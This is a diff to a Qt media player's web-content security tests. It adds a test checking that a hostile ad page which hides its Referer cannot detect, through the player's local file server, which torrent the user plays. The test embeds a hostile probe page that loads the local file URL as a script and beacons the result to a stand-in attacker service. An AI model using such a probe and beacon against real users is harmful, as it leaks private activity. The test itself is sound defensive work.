@@ -1,6 +1,7 @@
 // Remote pages inside the player tried the way a hostile site would use them, on a display of
 // their own, against the web-service stand-in serving hostile pages: what the user copied, the
-// script bridge, hidden new windows and browser starts stay out of their reach.
+// script bridge, hidden new windows, browser starts and the player's file server stay out of
+// their reach.
 #include <QApplication>
 #include <QClipboard>
 #include <QPushButton>
@@ -8,7 +9,9 @@
 #include <QWebElement>
 
 #include "ad_window.h"
+#include "http_server.h"
 #include "main_widget_fixture.h"
+#include "play_urls.h"
 #include "web_page.h"
 #include "widget_ad.h"
 
@@ -189,6 +192,32 @@ TEST_F(WebContentTest, APageCannotPileUpHiddenWindowsNorBrowserStarts) {
     ASSERT_TRUE(WaitFor([&] { return BrowserStarts() >= 2; }));
     EXPECT_FALSE(WaitFor([&] { return BrowserStarts() > 3; }, 3000)) << BrowserLog();
     EXPECT_TRUE(WaitFor([&] { return _WebView::Count() == 0; }, 20000));
+}
+
+// The player publishes a torrent the user chose on its file server for the streaming service.
+// A page that keeps its Referer back sends no address the server could tell it by; it gets no
+// answer there all the same. Had it one, a script element naming the file would load, and the
+// page would learn which file the user plays.
+TEST_F(WebContentTest, APageThatHidesItsAddressGetsNothingFromThePlayersFileServer) {
+    const std::string torrent = temp.file("chosen.torrent");
+    testsupport::WriteFile(torrent, "d8:announce4:nonee");
+    ASSERT_TRUE(TheHttpServer().Publish(QString::fromStdString(torrent)));
+    const QString file =
+        PublishedFileUrl(AppValue("btroot").toString(), QString::fromStdString(torrent));
+    testsupport::WriteFile(
+        temp.file("site/probe.html"),
+        "<html><head><meta name=\"referrer\" content=\"no-referrer\"></head><body><script>"
+        "function report(what) { new Image().src = '${base}report?published=' + what; }"
+        "var s = document.createElement('script');"
+        "s.onload = function () { report('answered'); };"
+        "s.onerror = function () { report('refused'); };"
+        "s.src = '" +
+            file.toStdString() + "'; document.body.appendChild(s);</script></body></html>");
+    ASSERT_TRUE(LoadAd("probe.html"));
+    // The file server answers on this thread: the wait must let it.
+    ASSERT_TRUE(WaitFor([&] { return service->CountRequests("report?published=") > 0; }));
+    EXPECT_EQ(service->CountRequests("report?published=refused"), 1);
+    EXPECT_EQ(service->CountRequests("report?published=answered"), 0);
 }
 
 }  // namespace
